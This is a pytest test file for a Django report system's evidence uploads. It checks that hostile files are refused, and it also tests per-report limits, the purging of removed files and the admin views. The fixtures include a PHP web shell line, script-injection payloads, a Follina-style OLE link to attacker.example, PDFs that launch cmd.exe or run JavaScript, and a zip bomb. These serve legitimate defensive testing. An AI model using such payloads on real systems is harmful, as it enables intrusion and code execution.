"""Evidence hardening: what is inside an attached file, how much one report may hold, removed files
leaving the disk after the grace period, and the admin page of a document.

Refusals are read in English (the msgids), so that these tests do not depend on the catalogue.
"""

import base64
import datetime as dt
import io
import struct
import zipfile
import zlib
from pathlib import Path

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone, translation
from openpyxl import Workbook

from reports.evidence import evidence_add, evidence_remove
from reports.models import EventAction, Evidence, SubmissionEvent
from reports.services import ReportError

pytestmark = pytest.mark.django_db

URL = "/reports/2025-Q1/429/evidence/"
MB = 2**20

# --- Files, real and hostile -------------------------------------------------------------------

PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
# An 8x8 JPEG as Chromium writes a screenshot (JFIF, ICC profile, two tables, baseline, one scan).
JPEG = base64.b64decode(
    "/9j/4AAQSkZJRgABAQAAAQABAAD/4gHYSUNDX1BST0ZJTEUAAQEAAAHIAAAAAAQwAABtbnRyUkdCIFhZWiAH4AABAAEAAAAAAABhY3NwAAAAAAAA"
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAQAA9tYAAQAAAADTLQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
    "AAlkZXNjAAAA8AAAACRyWFlaAAABFAAAABRnWFlaAAABKAAAABRiWFlaAAABPAAAABR3dHB0AAABUAAAABRyVFJDAAABZAAAAChnVFJDAAABZAAA"
    "AChiVFJDAAABZAAAAChjcHJ0AAABjAAAADxtbHVjAAAAAAAAAAEAAAAMZW5VUwAAAAgAAAAcAHMAUgBHAEJYWVogAAAAAAAAb6IAADj1AAADkFhZ"
    "WiAAAAAAAABimQAAt4UAABjaWFlaIAAAAAAAACSgAAAPhAAAts9YWVogAAAAAAAA9tYAAQAAAADTLXBhcmEAAAAAAAQAAAACZmYAAPKnAAANWQAA"
    "E9AAAApbAAAAAAAAAABtbHVjAAAAAAAAAAEAAAAMZW5VUwAAACAAAAAcAEcAbwBvAGcAbABlACAASQBuAGMALgAgADIAMAAxADb/2wBDABALDA4M"
    "ChAODQ4SERATGCgaGBYWGDEjJR0oOjM9PDkzODdASFxOQERXRTc4UG1RV19iZ2hnPk1xeXBkeFxlZ2P/2wBDARESEhgVGC8aGi9jQjhCY2NjY2Nj"
    "Y2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2P/wAARCAAIAAgDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAA"
    "AAb/xAAWEAEBAQAAAAAAAAAAAAAAAAAAFGH/xAAVAQEBAAAAAAAAAAAAAAAAAAAEBv/EABkRAAIDAQAAAAAAAAAAAAAAAABRAwQUFf/aAAwDAQAC"
    "EQMRAD8AmadAUfOroZvnZ//Z"
)
PHP = b"<?php system($_GET['c']); ?>"


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(*, text: bytes | None = None, after: bytes = b"") -> bytes:
    """A real 2x2 RGB PNG, optionally with a tEXt chunk and bytes after its end."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0))
    pixels = zlib.compress(b"\0" + b"\xff\0\0" * 2 + b"\0" + b"\0\0\xff" * 2)
    extra = chunk(b"tEXt", b"Comment\0" + text) if text is not None else b""
    return b"\x89PNG\r\n\x1a\n" + header + extra + chunk(b"IDAT", pixels) + chunk(b"IEND", b"") + after


PNG = png()


def jpeg_with_comment(comment: bytes) -> bytes:
    """The JPEG with a COM segment right after SOI, where EXIF-style payloads hide."""
    return JPEG[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + JPEG[2:]


def word_file() -> bytes:
    document = docx.Document()
    document.add_paragraph("Biên bản kiểm tra công tác cải cách hành chính quý I")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def excel_file() -> bytes:
    workbook = Workbook()
    workbook.active["A1"] = "Số hồ sơ trực tuyến"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


DOCX, XLSX = word_file(), excel_file()


def rezip(data: bytes, *, add: dict[str, bytes] | None = None, change=None, drop: tuple[str, ...] = ()) -> bytes:
    """An Office file with parts added, rewritten (`change(name, body) -> body`) or left out."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename not in drop:
                body = source.read(info.filename)
                target.writestr(info.filename, change(info.filename, body) if change else body)
        for name, body in (add or {}).items():
            target.writestr(name, body)
    return out.getvalue()


def macro_enabled(name: str, body: bytes) -> bytes:
    """A .docm's content type, as Word writes it, under a .docx name."""
    if name == "[Content_Types].xml":
        return body.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
    return body


def follina(name: str, body: bytes) -> bytes:
    """An OLE object fetched from a web server when the document opens (CVE-2022-30190)."""
    if name == "word/_rels/document.xml.rels":
        rel = (
            b'<Relationship Id="rId99" TargetMode="External" Target="http://attacker.example/x.html!" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"/>'
        )
        return body.replace(b"</Relationships>", rel + b"</Relationships>")
    return body


def ole2(*streams: str) -> bytes:
    """A legacy compound file (.doc, .xls): the header sector and a directory sector naming `streams`."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
    header = header.ljust(512, b"\0")
    entries = b""
    for name in ("Root Entry", *streams):
        encoded = (name + "\0").encode("utf-16-le")
        entries += encoded.ljust(64, b"\0") + struct.pack("<H", len(encoded)) + b"\x02\x01".ljust(62, b"\0")
    return header + entries.ljust(512, b"\0")


def pdf(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, obj) for number, obj in enumerate(objects, start=1))
    return b"%PDF-1.7\n" + body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


def object_stream(content: bytes, *, filters: bytes = b"/FlateDecode") -> bytes:
    packed = zlib.compress(content) if filters == b"/FlateDecode" else content
    return b"<< /Type /ObjStm /N 1 /First 4 /Filter %s /Length %d >>\nstream\n%s\nendstream" % (
        filters,
        len(packed),
        packed,
    )


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"

# --- Helpers ---------------------------------------------------------------------------------------


def add(submission, by, name: str, content: bytes) -> Evidence:
    return evidence_add(submission=submission, upload=SimpleUploadedFile(name, content), by=by)


def refusal(submission, by, name: str, content: bytes) -> str:
    """The reason, in English, `content` under `name` is refused; nothing is stored."""
    before = Evidence.objects.count()
    with translation.override("en"), pytest.raises(ReportError) as refused:
        add(submission, by, name, content)
    assert Evidence.objects.count() == before
    return str(refused.value)


MISMATCH = "does not match its extension"
MACROS = "macros"
MARKUP = "web page or script code"
ACTIVE_PDF = "JavaScript or launch actions"
LEGACY = "save it as .docx, .xlsx or PDF"

# --- 1. What is inside the file ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, content, reason",
    [
        # Legacy compound files are refused whatever they hold: with a VBA project or without one.
        ("bien-ban.doc", ole2("WordDocument", "Macros", "_VBA_PROJECT", "VBA"), LEGACY),
        ("so-lieu.xls", ole2("Workbook", "_VBA_PROJECT_CUR", "VBA"), LEGACY),
        ("bien-ban-cu.doc", ole2("WordDocument"), LEGACY),
        # Office Open XML with macros, ActiveX or a part fetched from elsewhere.
        ("bien-ban.docx", rezip(DOCX, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 vba"}), MACROS),
        ("bien-ban.docx", rezip(DOCX, change=macro_enabled), MACROS),
        ("bien-ban.docx", rezip(DOCX, change=follina), MACROS),
        ("bien-ban.docx", rezip(DOCX, add={"word/activeX/activeX1.bin": b"\0" * 16}), MACROS),
        ("so-lieu.xlsx", rezip(XLSX, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 vba"}), MACROS),
        # Not the document it claims to be.
        ("bien-ban.docx", XLSX, MISMATCH),
        ("so-lieu.xlsx", DOCX, MISMATCH),
        ("bien-ban.docx", rezip(DOCX, drop=("[Content_Types].xml",)), MISMATCH),
        ("bien-ban.docx", b"PK\x03\x04" + b"\0" * 200, MISMATCH),
        ("bien-ban.docx", b"MZ\x90\x00" + b"\0" * 60 + b"This program cannot be run in DOS mode.", MISMATCH),
        # An executable or a web page behind a valid first line.
        ("bao-cao.pdf", b"%PDF-1.7\nMZ\x90\x00" + b"\0" * 200, MISMATCH),
        ("bao-cao.pdf", b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>", MARKUP),
        ("bao-cao.pdf", b"%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n", MARKUP),
        # PHP behind a JPEG or PNG header, in a metadata segment, or after the image.
        ("anh.jpg", b"\xff\xd8\xff\xe0" + PHP, MARKUP),
        ("anh.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\0" * 100, MISMATCH),
        ("anh.jpg", jpeg_with_comment(b"x" * 2000 + PHP + b"x" * 2000), MARKUP),
        ("anh.jpeg", JPEG + PHP, MARKUP),
        ("anh.jpg", jpeg_with_comment(b"x" * 2000) + PHP + b"\0" * 2048, MISMATCH),
        ("anh.jpg", JPEG[:-2], MISMATCH),
        ("anh.jpg", JPEG[: JPEG.index(b"\xff\xda")] + b"\xff\xd9", MISMATCH),  # tables, no picture
        ("anh.jpg", JPEG.replace(JPEG[JPEG.index(b"\xff\xc0") :][:19], b""), MISMATCH),  # a scan, no frame
        ("anh.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 32, MISMATCH),
        ("anh.png", b"\x89PNG\r\n\x1a\n" + PHP, MARKUP),
        ("anh.png", png(text=b"\0" * 2000 + b"<script>alert(1)</script>" + b"\0" * 2000), MARKUP),
        ("anh.png", png(after=b"\0" * 2048), MISMATCH),
        ("anh.png", png(after=b"<html><script>alert(1)</script></html>"), MARKUP),
        ("anh.png", PNG[:-1], MISMATCH),
        ("anh.png", PNG[:-4] + b"\0\0\0\0", MISMATCH),  # IEND's checksum spoilt
        ("anh.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IEND", b""), MISMATCH),  # no IHDR, no image data
    ],
    ids=[
        "doc-with-vba",
        "xls-with-vba",
        "doc-without-vba",
        "docx-with-vbaproject",
        "docm-renamed-docx",
        "docx-external-ole-object",
        "docx-with-activex",
        "xlsx-with-vbaproject",
        "xlsx-renamed-docx",
        "docx-renamed-xlsx",
        "docx-without-content-types",
        "zip-header-then-junk",
        "executable-as-docx",
        "executable-behind-pdf-header",
        "html-behind-pdf-header",
        "html-inside-pdf-shape",
        "php-behind-jpeg-header",
        "jpeg-header-then-junk",
        "php-in-jpeg-comment",
        "php-after-jpeg-end",
        "php-hidden-before-padding",
        "jpeg-cut-short",
        "jpeg-without-image-data",
        "jpeg-without-frame-header",
        "png-signature-then-zeros",
        "php-behind-png-signature",
        "script-in-png-text",
        "bytes-after-png-end",
        "html-after-png-end",
        "png-cut-short",
        "png-bad-checksum",
        "png-without-header",
    ],
)
def test_hostile_files_are_refused(draft_a, reporter_a, name, content, reason):
    assert reason in refusal(draft_a, reporter_a, name, content)


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_word_document_with_two_main_parts_is_refused(draft_a, reporter_a):
    twice = rezip(DOCX, add={"word/document.xml": b"<w:document/>"})
    assert "damaged" in refusal(draft_a, reporter_a, "bien-ban.docx", twice)


def test_a_zip_bomb_dressed_as_a_word_document_is_refused(draft_a, reporter_a):
    bomb = rezip(DOCX, add={"word/media/fill.xml": b"0" * 50_000_000})
    assert "abnormal size" in refusal(draft_a, reporter_a, "bien-ban.docx", bomb)


@pytest.mark.parametrize(
    "content",
    [
        pdf(b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
        pdf(b"<< /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >>"),
        pdf(b"<< /Type /Catalog /OpenAction << /S /J#61va#53cript /J#53 (app.alert(1)) >> >>"),
        pdf(b"<< /Type /Catalog /Names << /JavaScript 3 0 R >> >>", PAGES, b"<< /Names [(a) 4 0 R] >>"),
        pdf(CATALOG, object_stream(b"3 0 << /S /JavaScript /JS (app.alert(1)) >>")),
        pdf(CATALOG, object_stream(b"3 0 << /S /Launch /F (cmd.exe) >>")),
    ],
    ids=[
        "javascript",
        "launch",
        "escaped-name",
        "names-tree",
        "javascript-in-object-stream",
        "launch-in-object-stream",
    ],
)
def test_pdfs_with_javascript_or_launch_actions_are_refused(draft_a, reporter_a, content):
    assert ACTIVE_PDF in refusal(draft_a, reporter_a, "bao-cao.pdf", content)


def test_a_pdf_object_stream_that_cannot_be_read_is_refused(draft_a, reporter_a):
    hidden = pdf(CATALOG, object_stream(b"not flate at all", filters=b"/FlateDecode"))
    hidden = hidden.replace(zlib.compress(b"not flate at all"), b"\x78\x9c garbage")
    assert "damaged" in refusal(draft_a, reporter_a, "bao-cao.pdf", hidden)


def test_a_pdf_without_its_end_marker_is_refused(draft_a, reporter_a):
    assert MISMATCH in refusal(draft_a, reporter_a, "bao-cao.pdf", pdf(CATALOG, PAGES)[:-7])


@pytest.mark.parametrize(
    "name, content, content_type",
    [
        ("Báo cáo quý I.pdf", PDF, "application/pdf"),
        ("Báo cáo nén.pdf", pdf(CATALOG, object_stream(b"2 0 " + PAGES)), "application/pdf"),
        ("Biên bản.docx", DOCX, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        (
            "Biên bản có liên kết.docx",
            rezip(
                DOCX,
                change=lambda name, body: (
                    body.replace(
                        b"</Relationships>",
                        b'<Relationship Id="rId98" TargetMode="External" Target="https://dichvucong.gov.vn/" '
                        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
                        b"</Relationships>",
                    )
                    if name == "word/_rels/document.xml.rels"
                    else body
                ),
            ),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        ("Số liệu.xlsx", XLSX, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("Ảnh hiện trường.jpg", JPEG, "image/jpeg"),
        ("Ảnh có chú thích.jpeg", jpeg_with_comment("Bộ phận một cửa".encode()), "image/jpeg"),
        ("Ảnh kép.jpg", JPEG + JPEG, "image/jpeg"),  # a second picture after the first (MPF)
        ("Ảnh đệm.jpg", JPEG + b"\0" * 64, "image/jpeg"),  # padded by the camera
        ("Ảnh chụp màn hình.png", PNG, "image/png"),
        ("Ảnh có chú thích.png", png(text="Bộ phận một cửa".encode()), "image/png"),
    ],
    ids=[
        "pdf",
        "pdf-with-object-stream",
        "docx",
        "docx-with-hyperlink",
        "xlsx",
        "jpeg",
        "jpeg-with-comment",
        "jpeg-with-second-picture",
        "jpeg-padded",
        "png",
        "png-with-text",
    ],
)
def test_ordinary_documents_are_still_accepted(draft_a, reporter_a, name, content, content_type):
    evidence = add(draft_a, reporter_a, name, content)
    assert evidence.content_type == content_type and evidence.size == len(content)
    assert Path(evidence.file.path).read_bytes() == content


def test_a_refused_file_is_explained_on_the_report_page(draft_a, login, reporter_a):
    client = login(reporter_a)
    with translation.override("en"):
        response = client.post(
            URL, {"file": SimpleUploadedFile("bien-ban.docx", rezip(DOCX, change=macro_enabled))}, follow=True
        )
    assert response.status_code == 200
    assert not Evidence.objects.exists()
    assert any("Không nhận tài liệu có macro" in str(message) for message in response.context["messages"])


# --- 2. How much a report may hold ------------------------------------------------------------------


def test_the_thirtieth_document_is_accepted_and_the_thirty_first_refused(draft_a, reporter_a):
    for number in range(29):
        add(draft_a, reporter_a, f"tai-lieu-{number}.pdf", PDF)
    add(draft_a, reporter_a, "tai-lieu-30.pdf", PDF)
    reason = refusal(draft_a, reporter_a, "tai-lieu-31.pdf", PDF)
    assert "at most 30 documents" in reason
    assert Evidence.objects.filter(submission=draft_a).count() == 30


def test_a_removed_document_frees_its_place(draft_a, reporter_a):
    for number in range(30):
        add(draft_a, reporter_a, f"tai-lieu-{number}.pdf", PDF)
    evidence_remove(evidence=Evidence.objects.first(), by=reporter_a)
    add(draft_a, reporter_a, "thay-the.pdf", PDF)
    assert Evidence.objects.filter(submission=draft_a, removed_at__isnull=True).count() == 30


def held(submission, by, size: int, *, removed: bool = False, stored: bool = True) -> Evidence:
    """A row standing for a large document already attached (its bytes are not written)."""
    return Evidence.objects.create(
        submission=submission,
        file="evidence/2025/01/da-co.pdf" if stored else "",
        original_name="da-co.pdf",
        content_type="application/pdf",
        size=size,
        uploaded_by=by,
        removed_at=timezone.now() if removed else None,
        removed_by=by if removed else None,
    )


def test_documents_up_to_200_mb_per_report_are_accepted_and_one_byte_more_refused(draft_a, reporter_a):
    for _ in range(9):
        held(draft_a, reporter_a, 20 * MB)
    held(draft_a, reporter_a, 20 * MB - len(PDF) - 1)
    add(draft_a, reporter_a, "vua-du.pdf", PDF + b"\n")  # 200 MB exactly
    reason = refusal(draft_a, reporter_a, "qua.pdf", b"%PDF-1.7\n%%EOF\n")
    assert "at most 200.0\xa0MB" in reason


def test_removed_documents_still_on_disk_count_towards_what_a_report_may_keep(draft_a, reporter_a):
    for _ in range(19):
        held(draft_a, reporter_a, 20 * MB, removed=True)
    held(draft_a, reporter_a, 20 * MB - len(PDF), removed=True)
    add(draft_a, reporter_a, "vua-du.pdf", PDF)  # 400 MB on disk exactly
    reason = refusal(draft_a, reporter_a, "lai.pdf", PDF)
    assert "at most 400.0\xa0MB" in reason and "30 days" in reason
    # Once their bytes are gone (the grace period over), they no longer count.
    Evidence.objects.filter(removed_at__isnull=False).update(file="")
    add(draft_a, reporter_a, "lai.pdf", PDF)


def test_the_limits_can_be_set(draft_a, reporter_a, settings):
    settings.EVIDENCE_MAX_FILES_PER_REPORT = 2
    add(draft_a, reporter_a, "mot.pdf", PDF)
    add(draft_a, reporter_a, "hai.pdf", PDF)
    assert "at most 2 documents" in refusal(draft_a, reporter_a, "ba.pdf", PDF)


def test_the_thirty_first_document_is_refused_through_the_page(draft_a, login, reporter_a):
    for number in range(30):
        add(draft_a, reporter_a, f"tai-lieu-{number}.pdf", PDF)
    client = login(reporter_a)
    with translation.override("en"):
        response = client.post(URL, {"file": SimpleUploadedFile("them.pdf", PDF)}, follow=True)
    assert any("tối đa 30 tài liệu" in str(message) for message in response.context["messages"])
    assert Evidence.objects.count() == 30


# --- 2. Removed files leave the disk after the grace period ---------------------------------------------


def test_files_removed_more_than_30_days_ago_are_deleted_and_the_rows_kept(draft_a, reporter_a):
    from reports.tasks import purge_removed_evidence

    now = timezone.now()
    old, recent, kept = (add(draft_a, reporter_a, f"{name}.pdf", PDF) for name in ("old", "recent", "kept"))
    for evidence in (old, recent):
        evidence_remove(evidence=evidence, by=reporter_a)
    Evidence.objects.filter(pk=old.pk).update(removed_at=now - dt.timedelta(days=30, minutes=1))
    Evidence.objects.filter(pk=recent.pk).update(removed_at=now - dt.timedelta(days=30) + dt.timedelta(minutes=1))
    Evidence.objects.filter(pk=kept.pk).update(uploaded_at=now - dt.timedelta(days=400))
    paths = {evidence.pk: Path(evidence.file.path) for evidence in (old, recent, kept)}
    events = SubmissionEvent.objects.count()

    assert purge_removed_evidence() == 1

    assert not paths[old.pk].exists() and paths[recent.pk].exists() and paths[kept.pk].exists()
    old.refresh_from_db()
    assert old.file.name == "" and old.original_name == "old.pdf" and old.size == len(PDF)
    assert old.removed_by == reporter_a
    assert SubmissionEvent.objects.count() == events
    assert SubmissionEvent.objects.filter(action=EventAction.EVIDENCE_REMOVED, changes__file=["old.pdf", None]).exists()


def test_purging_twice_gives_the_same_result(draft_a, reporter_a):
    from reports.tasks import purge_removed_evidence

    old, kept = add(draft_a, reporter_a, "old.pdf", PDF), add(draft_a, reporter_a, "kept.pdf", PDF)
    evidence_remove(evidence=old, by=reporter_a)
    Evidence.objects.filter(pk=old.pk).update(removed_at=timezone.now() - dt.timedelta(days=31))
    path = Path(old.file.path)
    assert purge_removed_evidence() == 1
    state = list(Evidence.objects.order_by("pk").values())
    assert purge_removed_evidence() == 0
    assert list(Evidence.objects.order_by("pk").values()) == state
    assert not path.exists() and Path(kept.file.path).exists()


def test_a_file_already_gone_from_disk_is_purged_without_error(draft_a, reporter_a):
    from reports.tasks import purge_removed_evidence

    old = add(draft_a, reporter_a, "old.pdf", PDF)
    evidence_remove(evidence=old, by=reporter_a)
    Evidence.objects.filter(pk=old.pk).update(removed_at=timezone.now() - dt.timedelta(days=31))
    Path(old.file.path).unlink()
    assert purge_removed_evidence() == 1
    old.refresh_from_db()
    assert old.file.name == ""


# --- 3. The admin page of a document ---------------------------------------------------------------------


@pytest.fixture
def admin_client_(login, django_user_model):
    return login(django_user_model.objects.create_superuser("quantri", password="Mat-khau-thu-2025"))


def test_a_superuser_opens_an_evidence_document_in_the_admin(draft_a, reporter_a, admin_client_):
    evidence = add(draft_a, reporter_a, "Biên bản <họp>.pdf", PDF)
    page = admin_client_.get(f"/admin/reports/evidence/{evidence.pk}/change/")
    assert page.status_code == 200
    html = page.content.decode()
    assert f'href="/reports/2025-Q1/429/evidence/{evidence.pk}/"' in html
    assert "Biên bản &lt;họp&gt;.pdf" in html and "<họp>" not in html
    assert evidence.file.name not in html  # the stored name stays private
    assert admin_client_.get("/admin/reports/evidence/").status_code == 200


def test_a_removed_or_purged_document_opens_in_the_admin_without_a_link(draft_a, reporter_a, admin_client_):
    removed, purged = add(draft_a, reporter_a, "go.pdf", PDF), add(draft_a, reporter_a, "xoa.pdf", PDF)
    for evidence in (removed, purged):
        evidence_remove(evidence=evidence, by=reporter_a)
    Evidence.objects.filter(pk=purged.pk).update(file="")
    for evidence in (removed, purged):
        page = admin_client_.get(f"/admin/reports/evidence/{evidence.pk}/change/")
        assert page.status_code == 200
        assert f"/reports/2025-Q1/429/evidence/{evidence.pk}/" not in page.content.decode()
